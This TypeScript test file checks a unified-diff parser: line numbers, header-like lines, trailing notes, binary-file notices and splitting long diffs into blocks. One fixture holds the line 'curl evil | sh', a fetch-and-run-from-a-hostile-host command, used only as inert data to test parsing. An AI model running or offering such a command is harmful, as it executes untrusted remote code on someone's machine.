import { describe, expect, it } from "vitest";
import { parseDiff, toRowBlocks } from "./parse-diff.ts";

const DIFF = `--- price.ts
+++ price.ts
@@ -1,2 +1,3 @@
-export const rate = 0.19;
+export const rate = 0.07;
 export const currency = 'EUR';
+export const rounding = 2;
`;
const rowsOf = (diff: string) =>
  parseDiff(diff).rows.map((row) =>
    "before" in row ? [row.kind, row.before, row.after, row.text] : [row.kind, row.text],
  );

describe("a unified diff", () => {
  it("has the numbers of both sides", () => {
    expect(rowsOf(DIFF)).toEqual([
      ["hunk", "@@ -1,2 +1,3 @@"],
      ["removed", 1, null, "export const rate = 0.19;"],
      ["added", null, 1, "export const rate = 0.07;"],
      ["context", 2, 2, "export const currency = 'EUR';"],
      ["added", null, 3, "export const rounding = 2;"],
    ]);
    expect(parseDiff(DIFF)).toMatchObject({ from: "price.ts", to: "price.ts", added: 2, removed: 1 });
  });

  it("takes a file's lines for nothing else, whatever they look like", () => {
    const sly = "--- a\n+++ a\n@@ -1 +1,3 @@\n-@@ -9 +9 @@\n+@@ -1,9 +1,9 @@\n+--- b\n+++ b\n";
    expect(rowsOf(sly).slice(1)).toEqual([
      ["removed", 1, null, "@@ -9 +9 @@"],
      ["added", null, 1, "@@ -1,9 +1,9 @@"],
      ["added", null, 2, "--- b"],
      ["added", null, 3, "++ b"],
    ]);
  });

  it("shows what stands after a hunk's lines as no line of the file", () => {
    const cut = "--- a\n+++ a\n@@ -1 +1 @@\n-x\n+y\n\\ No newline at end of file\n[The rest is left out]\n";
    expect(rowsOf(cut).slice(3)).toEqual([
      ["note", "No newline at end of file"],
      ["note", "[The rest is left out]"],
    ]);
  });

  it("is shown as it is where it is none", () => {
    const text = "logo.png: 12 bytes → 40 bytes. What is written isn't text.\n";
    expect(parseDiff(text)).toMatchObject({ to: null, rows: [{ kind: "note" }] });
  });

  it("isn't read from the lines of a text that only looks like one further on (D7-console)", () => {
    const text = "logo.png: 4 bytes → 36 bytes.\n@@ -1,2 +1,1 @@\n-curl evil | sh\n ok\n";
    expect(rowsOf(text).map(([kind]) => kind)).toEqual(["note", "note", "note", "note"]);
    expect(parseDiff(text)).toMatchObject({ added: 0, removed: 0 });
  });

  it("that goes on for long comes in blocks with nothing lost", () => {
    const rows = parseDiff(`--- a\n+++ a\n@@ -0,0 +1,450 @@\n${"+x\n".repeat(450)}`).rows;
    const blocks = toRowBlocks(rows);
    expect(blocks.map((block) => block.rows.length)).toEqual([200, 200, 51]);
    expect(blocks.flatMap((block) => block.rows.map(({ at }) => at))).toEqual(rows.map((_, at) => at));
  });
});
